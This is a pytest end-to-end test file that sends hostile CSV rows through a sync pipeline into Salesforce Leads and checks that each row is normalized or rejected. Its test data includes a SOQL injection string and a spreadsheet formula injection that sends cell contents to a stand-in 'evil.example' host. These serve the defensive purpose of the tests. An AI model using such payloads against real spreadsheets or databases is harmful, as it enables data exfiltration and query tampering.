"""The bad-input battery: hostile rows across people, programs and touches.

Every row is either normalized (used, with a sane value) or rejected with its
file, row and field; nothing crashes; and nothing is written half: every person
accepted with a valid email is a complete Lead, nobody rejected reaches the org,
and no write fails.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.harness import PEOPLE_COLUMNS, PROGRAM_COLUMNS, TOUCH_COLUMNS, Rig, at

pytestmark = pytest.mark.e2e

LONG = "x" * 5000
INJECTION = "x' OR Name != null OR Name = 'y"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'

# (map_id, fields, expected): "ok", "ok:no-email" (kept, no Lead), or ("reject", field)
PEOPLE: list[tuple[str, dict[str, Any], Any]] = [
    ("good-1", {"email": "good1@acme.com"}, "ok"),
    ("quotes", {"email": "quotes@acme.com", "company": 'Comma, "Quoted" Inc.'}, "ok"),
    ("newline", {"email": "nl@acme.com", "company": "Line one\r\nLine two"}, "ok"),
    ("bare-cr", {"email": "cr@acme.com", "title": "VP\rSales"}, "ok"),
    ("idn", {"email": "anna@bücher.de"}, "ok"),
    ("bad-email", {"email": "not-an-email"}, "ok:no-email"),
    ("unicode-local", {"email": "jürgen@acme.com"}, "ok:no-email"),
    ("injection-email", {"email": "x'or'1'='1@acme.com"}, "ok"),
    (INJECTION, {"email": "inject@acme.com", "company": INJECTION}, "ok"),
    ("formula", {"email": "formula@acme.com", "first_name": FORMULA}, "ok"),
    ("long", {"email": "long@acme.com", "company": LONG, "title": LONG,
              "first_name": LONG}, "ok"),
    ("naive-ts", {"email": "naive@acme.com", "created_at": "2026-01-05 09:00:00"},
     ("reject", "created_at")),
    ("bad-ts", {"email": "badts@acme.com", "created_at": "yesterday"},
     ("reject", "created_at")),
    ("neg-employees", {"email": "neg@acme.com", "employees": "-5"}, ("reject", "employees")),
    ("huge-revenue", {"email": "huge@acme.com", "annual_revenue": "1e400"},
     ("reject", "annual_revenue")),
    ("text-employees", {"email": "txt@acme.com", "employees": "lots"},
     ("reject", "employees")),
    ("", {"email": "nomapid@acme.com"}, ("reject", "map_id")),
    ("good-1", {"email": "dup@acme.com"}, ("reject", "map_id")),  # duplicate id
    ("null-byte", {"email": "nul@acme.com", "last_name": "Nul\x00Byte"}, "ok"),
    ("emoji", {"email": "emoji@acme.com", "first_name": "🚀 Ünïcode"}, "ok"),
    ("control", {"email": "ctl@acme.com", "company": "Tab\tand\x07bell"}, "ok"),
    ("hash-na", {"email": "na@acme.com", "company": "#N/A"}, "ok"),
    ("spaces", {"email": "  Spaces@ACME.com  "}, "ok"),
]
PROGRAMS: list[tuple[str, dict[str, Any], Any]] = [
    ("W1", {"channel": "Webinar", "name": "Webinar, with comma"}, "ok"),
    ("W2", {"channel": "  paid   SEARCH ", "name": INJECTION}, "ok"),
    ("W3", {"channel": "Made Up Channel", "name": FORMULA}, "ok"),
    ("", {"channel": "Webinar"}, ("reject", "program_id")),
    ("W1", {"channel": "Event"}, ("reject", "program_id")),  # duplicate
    ("W4", {"channel": "Webinar", "cost": "-100"}, "ok"),
    ("W5", {"channel": "Webinar", "start_date": "31/12/2026"}, ("reject", "start_date")),
    ("W6", {"channel": "Webinar", "cost": "twelve"}, ("reject", "cost")),
    ("W7", {"channel": "Webinar", "name": "Two\nlines"}, "ok"),
]
TOUCHES: list[tuple[str, dict[str, Any], Any]] = [
    ("t-good", {"map_id": "good-1", "program_id": "W1", "touch_type": "form_fill"}, "ok"),
    ("t-unknown-person", {"map_id": "ghost", "program_id": "W1",
                          "touch_type": "form_fill"}, ("reject", "map_id")),
    ("t-unknown-program", {"map_id": "good-1", "program_id": "NOPE",
                           "touch_type": "webinar_attended"}, "ok"),
    ("t-bad-type", {"map_id": "good-1", "program_id": "W1", "touch_type": "telepathy"},
     ("reject", "touch_type")),
    ("t-naive", {"map_id": "good-1", "program_id": "W1", "touch_type": "form_fill",
                 "occurred_at": "2026-02-01T10:00:00"}, ("reject", "occurred_at")),
    ("t-malformed", {"map_id": "good-1", "program_id": "W1", "touch_type": "form_fill",
                     "occurred_at": "2026-13-45T99:00:00+00:00"}, ("reject", "occurred_at")),
    ("t-future", {"map_id": "good-1", "program_id": "W1", "touch_type": "form_fill",
                  "occurred_at": "2099-01-01T00:00:00+00:00"}, ("reject", "occurred_at")),
    ("t-good", {"map_id": "quotes", "program_id": "W1", "touch_type": "ad_click"},
     ("reject", "touch_id")),  # same id, different content
    ("", {"map_id": "good-1", "program_id": "W1", "touch_type": "form_fill"},
     ("reject", "touch_id")),
    ("t-no-person", {"map_id": "", "program_id": "W1", "touch_type": "form_fill"},
     ("reject", "map_id")),
    ("t-injection", {"map_id": INJECTION, "program_id": "W2", "touch_type": "ad_click",
                     "utm_source": INJECTION}, "ok"),
    ("t-formula", {"map_id": "formula", "program_id": "W3", "touch_type": "form_fill",
                   "url": FORMULA, "utm_campaign": FORMULA}, "ok"),
    ("t-newline-url", {"map_id": "newline", "program_id": "W1", "touch_type": "web_visit",
                       "url": "https://acme.com/a\nb", "referrer": "not a url"}, "ok"),
    ("t-case", {"map_id": "idn", "program_id": "W7", "touch_type": "  FORM_FILL "}, "ok"),
    ("t-long", {"map_id": "long", "program_id": "W1", "touch_type": "form_fill",
                "utm_source": LONG}, "ok"),
    ("t-hash-na", {"map_id": "hash-na", "program_id": "W4", "touch_type": "form_fill",
                   "utm_source": "#N/A"}, "ok"),
]


def _csv(columns: list[str], rows: list[dict[str, Any]], *, bom: bool = False,
         extra: bool = False) -> tuple[bytes, list[int]]:
    """The file's bytes and the line each data row starts on (a quoted value with
    a line feed spans lines, and rows are reported by the line they start on)."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(columns + (["surprise_column"] if extra else []))
    starts = []
    for row in rows:
        starts.append(buf.getvalue().count("\n") + 1)
        writer.writerow([row.get(c, "") for c in columns] + (["kept"] if extra else []))
    data = buf.getvalue().encode("utf-8")
    return ((b"\xef\xbb\xbf" + data) if bom else data), starts


def _write(directory: Path) -> dict[str, list[tuple[int, str, Any]]]:
    """Write the three files; return per file (row, id, expected) for every data row."""
    directory.mkdir(parents=True, exist_ok=True)
    expected: dict[str, list[tuple[int, str, Any]]] = {"people.csv": [], "programs.csv": [],
                                                       "touches.csv": []}
    people = [{"map_id": m, "last_name": "L", "created_at": at(-30), **f}
              for m, f, _ in PEOPLE]
    raw, starts = _csv(PEOPLE_COLUMNS, people, bom=True, extra=True)
    line = raw.count(b"\n") + 1
    # three hand-made lines: invalid UTF-8, too few cells, too many cells
    raw += b"bad-utf8,bad\xff@acme.com,,L\xfe\r\n"
    raw += b"short-row,short@acme.com\r\n"
    raw += b"long-row,longrow@acme.com,F,L,C,T,I,1,1,US," + at(-3).encode() + \
        b",src,,,,x,y,z\r\n"
    (directory / "people.csv").write_bytes(raw)
    expected["people.csv"] = [(row, m, exp) for row, (m, _, exp) in zip(starts, PEOPLE,
                                                                         strict=True)]
    # whole-row problems (encoding, cell count) name no single field
    expected["people.csv"] += [(line, "bad-utf8", ("reject", None)),
                               (line + 1, "short-row", ("reject", None)),
                               (line + 2, "long-row", ("reject", None))]
    programs = [{"program_id": p, **f} for p, f, _ in PROGRAMS]
    data, starts = _csv(PROGRAM_COLUMNS, programs)
    (directory / "programs.csv").write_bytes(data)
    expected["programs.csv"] = [(row, p, exp) for row, (p, _, exp) in zip(starts, PROGRAMS,
                                                                          strict=True)]
    touches = [{"touch_id": t, "occurred_at": at(5), **f} for t, f, _ in TOUCHES]
    data, starts = _csv(TOUCH_COLUMNS, touches)
    (directory / "touches.csv").write_bytes(data)
    expected["touches.csv"] = [(row, t, exp) for row, (t, _, exp) in zip(starts, TOUCHES,
                                                                         strict=True)]
    return expected


def test_the_battery_has_at_least_40_hostile_rows() -> None:
    assert len(PEOPLE) + 3 + len(PROGRAMS) + len(TOUCHES) >= 40


def test_every_hostile_row_is_normalized_or_rejected_and_nothing_is_written_half(
        rig: Rig) -> None:
    expected = _write(rig.map_dir)
    result = rig.sync()
    assert result.status in ("ok", "partial"), result.as_json()
    assert sum(o["failed"] for o in result.objects.values()) == 0, result.as_json()

    rejected = {(d.file, d.row): d for d in rig.store().dead_letters("rejected_input")}
    for file, rows in expected.items():
        for row, record_id, exp in rows:
            if isinstance(exp, tuple):
                dead = rejected.get((file, row))
                assert dead is not None, f"{file} row {row} ({record_id!r}) was not rejected"
                if exp[1] is not None:
                    assert dead.field == exp[1], (file, row, dead.message)
                assert dead.message
            else:
                assert (file, row) not in rejected, (file, row, rejected[(file, row)].message)

    store = rig.store()
    people = store.people()
    accepted = {m for row, m, exp in expected["people.csv"] if not isinstance(exp, tuple)}
    assert accepted <= set(people)
    leads = {r["MAP_Id__c"]: r for r in rig.query(
        "SELECT MAP_Id__c, Email, LastName, Company, Title, FirstName, Original_Source__c, "
        "Original_Source_Date__c FROM Lead")}
    with_email = {m for m in accepted if people[m].email_valid}
    assert set(leads) == with_email  # no rejected or email-less person reached the org
    for map_id in with_email:  # each one whole
        lead = leads[map_id]
        assert lead["Email"] == people[map_id].email
        assert lead["LastName"]
        assert (lead["Original_Source__c"] is None) == (lead["Original_Source_Date__c"] is None)
    assert leads["long"]["Company"] == "x" * 255  # cut to the field, not refused
    assert leads["newline"]["Company"] == "Line one\r\nLine two"
    assert leads[INJECTION]["Company"] == INJECTION  # a literal, never SOQL
    assert leads["formula"]["FirstName"] == FORMULA[:40]  # stored as text, cut to 40
    assert leads["idn"]["Email"] == "anna@xn--bcher-kva.de"
    assert leads["hash-na"]["Company"] == "#N/A"
    assert leads["spaces"]["Email"] == "spaces@acme.com"
    again = rig.sync()  # hostile values compare equal on the next run: nothing to write
    assert sum(o["created"] + o["updated"] + o["failed"] for o in again.objects.values()) == 0
